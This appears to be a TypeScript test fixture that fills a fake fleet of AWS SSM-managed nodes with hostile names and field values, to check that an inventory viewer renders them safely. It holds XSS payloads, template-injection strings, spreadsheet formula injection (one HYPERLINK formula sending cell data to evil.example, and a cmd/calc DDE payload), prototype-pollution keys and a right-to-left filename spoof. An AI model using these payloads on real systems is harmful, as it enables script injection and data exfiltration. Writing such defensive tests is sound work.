import { keyOf, nodeLine } from '../test/write-tree';

/** A script that, run anywhere, leaves a mark which the tests look for. */
export const MARK = 'ranInTheInventory';

const longest = 'long-'.repeat(820).slice(0, 4096);

/** Names that somebody who owns a node may give to a package. */
export const HOSTILE_NAMES: Readonly<Record<string, string>> = {
  element: `<img src=x onerror="window.${MARK}=1">`,
  script: `<script>window.${MARK}=1</script>`,
  endOfScript: `</script><script>window.${MARK}=1</script>`,
  comment: `<!--<script>window.${MARK}=1`,
  attribute: `" autofocus onfocus="window.${MARK}=1`,
  address: `javascript:window.${MARK}=1`,
  fragment: '#/node/../../x?a=b&c=%2F%00',
  template: '${window.' + MARK + '=1}{{constructor.constructor("' + MARK + '=1")()}}',
  formula: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  plus: '+1+cmd|/C calc',
  at: '@SUM(1)',
  tab: '\t=1+1',
  prototype: '__proto__',
  constructor: 'constructor',
  rightToLeft: 'حزمة-أمان-النظام',
  override: 'safe\u202Egpj.exe',
  emoji: '📦🧨👩‍👩‍👧‍👦-package',
  combining: `z${'\u0301'.repeat(60)}algo`,
  quotes: `'"\`\\`,
  longest,
};

const node = (id: string, name: string, more: Readonly<Record<string, unknown>> = {}): string =>
  nodeLine(id, { ComputerName: name, AgentType: 'amazon-ssm-agent', AgentVersion: '3.3.1142.0', ...more });

/** The node that is called so. */
export function hostileNode(name: string): string {
  return `i-0000000000000${String(Object.values(HOSTILE_NAMES).indexOf(name)).padStart(4, '0')}`;
}

/** The node that lists more files than a page takes. */
export const CROWDED_NODE = 'i-00000000000000fff';

/** A tree whose every text is one of an attacker, beside one node that is as it should be. */
export function hostileFleet(): Record<string, string> {
  const tree: Record<string, string> = {
    [keyOf('AWS:InstanceInformation', 'i-0000000000000000f')]: node('i-0000000000000000f', 'good.example.internal'),
    [keyOf('AWS:Application', 'i-0000000000000000f')]: software('i-0000000000000000f', 'openssl'),
  };
  tree[keyOf('AWS:InstanceInformation', CROWDED_NODE)] = node(CROWDED_NODE, 'crowded.example.internal');
  tree[keyOf('AWS:File', CROWDED_NODE)] = Array.from({ length: 10_001 }, (_, i) =>
    line(CROWDED_NODE, { Name: `file-${String(i).padStart(5, '0')}`, Size: '1' }),
  ).join('\n');
  for (const name of Object.values(HOSTILE_NAMES)) {
    const id = hostileNode(name);
    tree[keyOf('AWS:InstanceInformation', id)] = node(id, name, {
      PlatformName: name,
      PlatformVersion: name,
      AgentVersion: name,
      IpAddress: name,
    });
    tree[keyOf('AWS:Application', id)] = software(id, name);
    tree[keyOf('AWS:Tag', id)] = line(id, { Key: name, Value: name });
    tree[keyOf('Custom:Hostile', id)] = line(id, { [name]: name, note: name });
    tree[keyOf('AWS:Service', id)] = line(id, { Name: name, DisplayName: name, Status: name, StartType: name });
  }
  return tree;
}

/** The name as a package, as its version, as its publisher and as all the rest. */
function software(id: string, name: string): string {
  const rows = [
    { Name: name, Version: '1.0' },
    {
      Name: 'everywhere',
      Version: name,
      Publisher: name,
      URL: name,
      Summary: name,
      Architecture: name,
      InstalledTime: name,
    },
  ];
  return rows.map((row) => line(id, row)).join('\n');
}

function line(id: string, row: Readonly<Record<string, unknown>>): string {
  return JSON.stringify({ ...row, resourceId: id, captureTime: '2026-11-21T01:00:00Z', schemaVersion: '1.1' });
}
